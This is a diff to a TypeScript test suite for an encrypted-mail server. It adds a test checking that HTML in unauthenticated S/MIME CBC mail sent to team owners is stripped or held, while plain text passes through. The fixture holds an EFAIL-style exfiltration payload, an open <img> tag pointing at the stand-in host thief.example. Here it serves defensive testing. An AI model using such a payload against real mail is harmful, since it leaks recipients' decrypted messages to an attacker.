@@ -3,9 +3,26 @@ import assert from "node:assert/strict";
 import { test, type TestContext } from "node:test";
 import { type Bytes, utf8, view } from "#base";
 import { heldAccept, heldList } from "#operations";
-import { entity, mixed, sealed, sealedCms, signed } from "../support/correspondents.ts";
+import {
+  correspondent,
+  entity,
+  mixed,
+  openFor,
+  sealed,
+  sealedCms,
+  signed,
+} from "../support/correspondents.ts";
 import { newServer } from "../support/server.ts";
-import { heldCodes, letter, movableClock, readNewest, sealedTeam, TEAM } from "../support/sealed-team.ts";
+import {
+  heldCodes,
+  join,
+  letter,
+  movableClock,
+  OWNER,
+  readNewest,
+  sealedTeam,
+  TEAM,
+} from "../support/sealed-team.ts";
 
 const HTML = entity('<img src="https://thief.example/?', [["Content-Type", "text/html"]]);
 const OPEN = { gpg_post_sign: "no", smime_post_sign: "no" } as const;
@@ -39,6 +56,27 @@ test("HTML alone is held, and even an owner cannot let it out", async (t) => {
   assert.deepEqual(await heldCodes(server), ["held no-integrity"], "it still waits");
   const copies = server.sink.messages.filter((copy) => copy.from.startsWith("team-"));
   assert.equal(copies.length, 0);
+});
+
+test("mail to the owners: its text goes on, its HTML does not, and HTML alone is held", async (t) => {
+  const { server, team } = await setUp(t);
+  const olga = await correspondent("olga");
+  await join(server, olga, { owner: true });
+  const stranger = { address: "stranger@example.com" };
+  const write = (content: Bytes, id: string) =>
+    server.post({ from: stranger.address, to: OWNER, message: letter(stranger, content, { id, to: OWNER }) });
+  await write(sealedCms(team.smime, mixed(entity("plain words"), HTML), "cbc"), "1");
+  const inside = textOf((await readNewest(server, olga, team))?.content);
+  assert.match(inside, /plain words/);
+  assert.doesNotMatch(inside, /thief\.example|text\/html/);
+  assert.deepEqual(await heldCodes(server), []);
+  await write(sealedCms(team.smime, HTML, "cbc"), "2");
+  assert.deepEqual(await heldCodes(server), ["held no-integrity"]);
+  const copies = server.mailbox(olga.address);
+  for (const { data } of copies) {
+    const read = await openFor(data, [olga], [team.openpgp]);
+    assert.ok(read.ok && !textOf(read.value.content).includes("thief.example"));
+  }
 });
 
 test("with a member's signature inside, or under AES-GCM, HTML goes out as it is", async (t) => {
